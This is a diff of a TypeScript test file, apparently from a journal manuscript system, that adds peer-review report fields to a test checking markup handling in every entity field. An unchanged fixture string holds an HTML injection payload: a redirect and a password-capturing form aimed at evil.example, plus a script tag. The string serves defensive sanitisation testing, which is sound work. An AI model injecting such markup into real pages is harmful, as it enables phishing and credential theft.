@@ -14,11 +14,13 @@ import { pageFields } from '#contracts/fields/page-fields.ts';
 import { partnerFields } from '#contracts/fields/partner-fields.ts';
 import { paths } from '#contracts/journal/paths.ts';
 import { decodeRichText, type EncodedHtml } from '#contracts/text/rich-text.ts';
+import { reportFields } from '#contracts/fields/review-fields.ts';
 import { settingsFields } from '#contracts/fields/settings-fields.ts';
 import { userFields } from '#contracts/fields/user-fields.ts';
 import { addIssue, articleForm, sendArticle } from './builders/articles.ts';
 import { checkImport, importRow, loadImport, pdfsOf } from './builders/imports.ts';
 import { makeZip } from './builders/make-zip.ts';
+import { invitedReviewer, sentManuscript } from './builders/manuscripts.ts';
 import { readZip } from './readers/read-zip.ts';
 import { ADMIN } from './running/running-auth.ts';
 import { runCatalogWithWorker } from './running/running-catalog-worker.ts';
@@ -28,6 +30,7 @@ import { ServiceProcess } from './running/service-process.ts';
 
 type Values = Record<string, unknown>;
 const MANUSCRIPTS = '/api/admin/manuscripts';
+const REVIEW = '/api/manuscripts/review';
 
 const hostile =
   'Hostile <i>words</i><meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example"><input name="password"></form><script>evil()</script>';
@@ -81,6 +84,7 @@ describe('Markup in every field of every entity', () => {
   let webdata: RunningWebdata;
   let manuscripts: RunningManuscripts;
   let web: ServiceProcess;
+  let reviewer: ReturnType<RunningManuscripts['withLink']>;
   const acceptedBy = new Map<string, Values>();
 
   beforeAll(async () => {
@@ -204,6 +208,19 @@ describe('Markup in every field of every entity', () => {
       fields: manuscriptFields,
       create: (given) => manuscripts.staff.post(MANUSCRIPTS).send({ email: 'asha@example.org', ...given }),
       change: (id, given) => manuscripts.staff.patch(`${MANUSCRIPTS}/${id}`).send(given),
+      lists: [],
+      pages: () => [],
+    },
+    review: {
+      fields: reportFields,
+      create: async (given) => {
+        const { sent } = await sentManuscript(manuscripts);
+        const { token } = await invitedReviewer(manuscripts, sent.id);
+        reviewer = manuscripts.withLink(token);
+        await reviewer.post(`${REVIEW}/answer`).send({ answer: 'accept' }).expect(200);
+        return reviewer.patch(REVIEW).send(given);
+      },
+      change: (_, given) => reviewer.patch(REVIEW).send(given),
       lists: [],
       pages: () => [],
     },
